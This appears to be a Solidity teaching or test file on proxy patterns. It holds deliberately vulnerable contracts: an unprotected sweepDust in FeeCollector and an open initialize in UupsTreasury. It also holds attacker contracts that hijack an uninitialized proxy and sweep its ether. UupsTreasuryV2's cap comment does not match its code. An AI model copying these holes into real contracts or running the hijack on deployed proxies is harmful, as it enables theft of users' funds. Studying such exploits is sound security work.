// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

/// @notice EIP-1967 storage slots, read and written in assembly.
library Slot1967 {
    /// bytes32(uint256(keccak256("eip1967.proxy.implementation")) - 1)
    bytes32 internal constant IMPLEMENTATION =
        0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc;
    /// bytes32(uint256(keccak256("eip1967.proxy.admin")) - 1)
    bytes32 internal constant ADMIN =
        0xb53127684a568b3173ae13b9f8a6016e243e63b6e8ee1178d6a717850b5d6103;

    function read(bytes32 slot) internal view returns (address value) {
        assembly {
            value := sload(slot)
        }
    }

    function write(bytes32 slot, address value) internal {
        assembly {
            sstore(slot, value)
        }
    }
}

/// @notice Forwards every call (and plain ether) to an implementation with DELEGATECALL.
abstract contract DelegatingProxy {
    function _implementation() internal view virtual returns (address);

    function _forward() internal {
        address target = _implementation();
        assembly {
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), target, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            switch ok
            case 0 { revert(0, returndatasize()) }
            default { return(0, returndatasize()) }
        }
    }

    function _init(address target, bytes memory data) internal {
        if (data.length == 0) return;
        (bool ok, bytes memory reason) = target.delegatecall(data);
        if (!ok) {
            assembly {
                revert(add(reason, 32), mload(reason))
            }
        }
    }

    fallback() external payable virtual {
        _forward();
    }

    receive() external payable virtual {
        _forward();
    }
}

/// @notice A UUPS proxy: the implementation holds the upgrade logic.
contract UupsProxy is DelegatingProxy {
    constructor(address implementation, bytes memory init) payable {
        Slot1967.write(Slot1967.IMPLEMENTATION, implementation);
        _init(implementation, init);
    }

    function _implementation() internal view override returns (address) {
        return Slot1967.read(Slot1967.IMPLEMENTATION);
    }
}

/// @notice A transparent proxy: its admin may only upgrade, everyone else is forwarded.
contract TransparentProxy is DelegatingProxy {
    error AdminCannotCallImplementation();

    constructor(address implementation, address admin, bytes memory init) payable {
        Slot1967.write(Slot1967.IMPLEMENTATION, implementation);
        Slot1967.write(Slot1967.ADMIN, admin);
        _init(implementation, init);
    }

    function _implementation() internal view override returns (address) {
        return Slot1967.read(Slot1967.IMPLEMENTATION);
    }

    fallback() external payable override {
        if (msg.sender != Slot1967.read(Slot1967.ADMIN)) _forward();
        else if (msg.sig == bytes4(keccak256("upgradeTo(address)"))) {
            Slot1967.write(Slot1967.IMPLEMENTATION, abi.decode(msg.data[4:], (address)));
        } else {
            revert AdminCannotCallImplementation();
        }
    }
}

/// @notice Merchants pay protocol fees in; the treasurer withdraws them. Behind a TransparentProxy.
contract FeeCollector {
    address public treasurer;
    bool private initialized;
    uint256 public collected;

    event FeePaid(address indexed payer, uint256 amount);
    event Paid(address indexed to, uint256 amount);

    error NotTreasurer();
    error AlreadyInitialized();
    error PaymentFailed();

    modifier onlyTreasurer() {
        if (msg.sender != treasurer) revert NotTreasurer();
        _;
    }

    function initialize(address treasurer_) external {
        if (initialized) revert AlreadyInitialized();
        initialized = true;
        treasurer = treasurer_;
    }

    function payFee() external payable {
        collected += msg.value;
        emit FeePaid(msg.sender, msg.value);
    }

    function withdrawFees(address to, uint256 amount) external onlyTreasurer {
        _pay(to, amount);
    }

    /// @notice Recover ether sent outside payFee. (The onlyTreasurer modifier was forgotten.)
    function sweepDust(address to) external {
        _pay(to, address(this).balance);
    }

    function _pay(address to, uint256 amount) private {
        (bool ok,) = to.call{value: amount}("");
        if (!ok) revert PaymentFailed();
        emit Paid(to, amount);
    }
}

/// @notice An ether treasury implementation for a UUPS proxy; the owner upgrades it.
contract UupsTreasury {
    address public owner;
    uint256 public deposited;
    mapping(address => uint256) public balanceOf;

    event Upgraded(address indexed implementation);

    error NotOwner();
    error AlreadyInitialized();
    error UpgradeCallFailed();
    error PaymentFailed();

    function initialize(address owner_) external {
        if (owner != address(0)) revert AlreadyInitialized();
        owner = owner_;
    }

    function deposit() external payable {
        balanceOf[msg.sender] += msg.value;
        deposited += msg.value;
    }

    function withdraw(uint256 amount) external {
        balanceOf[msg.sender] -= amount;
        deposited -= amount;
        (bool ok,) = msg.sender.call{value: amount}("");
        if (!ok) revert PaymentFailed();
    }

    function upgradeToAndCall(address implementation, bytes calldata data) external payable {
        if (msg.sender != owner) revert NotOwner();
        Slot1967.write(Slot1967.IMPLEMENTATION, implementation);
        emit Upgraded(implementation);
        if (data.length > 0) {
            (bool ok,) = implementation.delegatecall(data);
            if (!ok) revert UpgradeCallFailed();
        }
    }

    function version() external pure virtual returns (uint256) {
        return 1;
    }
}

/// @notice The treasury's second version (adds a per-account deposit cap).
contract UupsTreasuryV2 is UupsTreasury {
    uint256 public constant CAP = 1_000 ether;

    function version() external pure override returns (uint256) {
        return 2;
    }
}

interface IUupsTreasury {
    function initialize(address owner_) external;
    function upgradeToAndCall(address implementation, bytes calldata data) external payable;
}

/// @notice Attacker's "implementation": in the proxy's context, sends everything to `to`.
contract EtherSweeperImpl {
    function sweep(address to) external {
        (bool ok,) = to.call{value: address(this).balance}("");
        require(ok);
    }
}

/// @notice Attacker: initializes a proxy nobody initialized, then upgrades it to a sweeper.
contract ProxyHijacker {
    function hijack(IUupsTreasury proxy, address sweeper) external {
        proxy.initialize(address(this));
        proxy.upgradeToAndCall(sweeper, abi.encodeCall(EtherSweeperImpl.sweep, (msg.sender)));
    }
}
